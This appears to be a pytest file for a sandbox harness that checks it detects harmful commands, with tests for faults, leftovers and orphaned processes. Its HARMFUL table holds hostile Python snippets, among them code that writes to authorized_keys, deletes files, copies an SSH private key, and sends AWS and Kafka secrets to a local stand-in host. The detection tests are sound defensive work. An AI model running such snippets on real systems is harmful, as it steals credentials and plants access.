"""The harness sees each kind of harm that a command can do, and none where there is none."""

import os
import subprocess
import sys
from collections.abc import Generator
from functools import partial
from pathlib import Path

import psutil
import pytest

from testbed.hostile_runs.calls import Call
from testbed.hostile_runs.cases import BY_NAME
from testbed.hostile_runs.foreign_host import ForeignHost
from testbed.hostile_runs.scene import OAUTH_TOKEN, SECRETS, Scene, Templates, make_scene
from testbed.hostile_runs.trial import Attempt, attempt, bound_resources, working_folder
from testbed.repository import ROOT
from testbed.waiting import wait_for

HARMFUL = {
    "open(home + '/.ssh/authorized_keys', 'a').write('x')": "outside",
    "import os; os.unlink(home + '/../project/thesis.txt')": "outside",
    "import os; os.utime(home + '/.bashrc')": "outside",
    "open('new', 'w')": "inside",
    "import installed_module": "imported",
    "import os, socket; socket.create_connection(('localhost', port)).sendall("
    "b'GET /' + os.environ['AWS_SESSION_TOKEN'].encode())": "secret",
    "import base64, os, socket; socket.create_connection(('localhost', port)).sendall("
    "b'GET /' + base64.b64encode(b'user:' + os.environ['KAFKA_PASSWORD'].encode()))": "secret",
    "open(out + '/copy', 'w').write(open(home + '/.ssh/id_ed25519').read())": "copied",
    "print(open(home + '/token.txt').read())": "copied",
    "import time; time.sleep(100)": "hang",
    "1 / 0": "traceback",
    "import os; os.kill(os.getpid(), 11)": "traceback",
    "import tempfile; tempfile.mkdtemp()": "left",
}
"""Python that does harm, and the kind of fault."""


class Snippets:
    """Runs words as Python with the scene's places, in place of a command."""

    def __init__(self, port: int) -> None:
        self._port = port

    def start(self, words: list[str], scene: Scene, output: Path) -> subprocess.Popen[bytes]:
        places = f"home, out, port = {str(scene.home)!r}, {str(scene.out)!r}, {self._port}\n"
        with output.open("wb") as file:
            return subprocess.Popen(
                [sys.executable, "-c", places + words[0]],
                cwd=working_folder(scene),
                env=scene.environment(),
                stdout=file,
                stderr=subprocess.STDOUT,
                preexec_fn=partial(bound_resources, os.getpid()),
            )


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    """A scene with a received folder of one file."""
    for kind in ("run", "archive", "backup"):
        (tmp_path / "templates" / kind).mkdir(parents=True)
        (tmp_path / "templates" / kind / "config.json").write_text("{}", encoding="utf-8")
    templates = Templates(tmp_path / "templates")
    return make_scene(tmp_path / "scene", templates, "run", lambda scene: None)


@pytest.fixture
def host() -> Generator[ForeignHost]:
    with ForeignHost() as host:
        yield host


def tried(scene: Scene, host: ForeignHost, code: str, timeout_s: float = 30.0) -> Attempt:
    return attempt(scene, Call((code,)), Snippets(host.port), [host], timeout_s)


@pytest.mark.parametrize(("code", "kind"), HARMFUL.items())
def test_harm_is_seen(code: str, kind: str, scene: Scene, host: ForeignHost):
    found = tried(scene, host, code, 0.5 if kind == "hang" else 30.0)
    assert found.has(kind), found


def test_harmless_code_has_no_faults(scene: Scene, host: ForeignHost):
    code = "print('fine'); open(out + '/report', 'w'); import socket; "
    code += "socket.create_connection(('localhost', port)).sendall(b'GET / nothing')"
    assert tried(scene, host, code).faults == ()


def test_a_kafka_client_shows_its_password_to_the_foreign_host(host: ForeignHost):
    kafka = pytest.importorskip("kafka")
    user, password = SECRETS["KAFKA_USER"], SECRETS["KAFKA_PASSWORD"]
    with pytest.raises(kafka.errors.KafkaError):
        kafka.KafkaAdminClient(
            bootstrap_servers=[host.address],
            security_protocol="SASL_PLAINTEXT",
            sasl_mechanism="PLAIN",
            sasl_plain_username=user,
            sasl_plain_password=password,
            bootstrap_timeout_ms=500,
        )
    assert host.seen([user, password, OAUTH_TOKEN]) == [user, password]


def test_all_cases_have_names_of_one_line():
    assert all(name.isprintable() for name in BY_NAME)
    assert len(BY_NAME) >= 40


SERVED = """
import sys
from pathlib import Path
from testbed.hostile_runs.scene import Templates, make_scene
from testbed.hostile_runs.warm import ForkingInterpreter

root = Path(sys.argv[1])
scene = make_scene(root / "scene", Templates(root / "templates"), "run", lambda scene: None)
interpreter = ForkingInterpreter(scene.home)
child = interpreter.start(["explore", sys.argv[2], "--port", "0"], scene, root / "output")
print(interpreter._process.pid, child.pid, flush=True)
sys.stdin.read()
"""


@pytest.mark.slow
def test_no_command_outlives_a_killed_test(scene: Scene, tmp_path: Path):
    words = [sys.executable, "-c", SERVED, str(tmp_path), str(ROOT / "examples" / "archive")]
    pipe = subprocess.PIPE
    with subprocess.Popen(words, cwd=ROOT, stdin=pipe, stdout=pipe) as process:
        assert process.stdout is not None
        started = [psutil.Process(int(pid)) for pid in process.stdout.readline().split()]
        assert len(started) == 2
        wait_for(lambda: b"explorer: " in (tmp_path / "output").read_bytes())
        process.kill()
    wait_for(lambda: not any(one.is_running() for one in started))
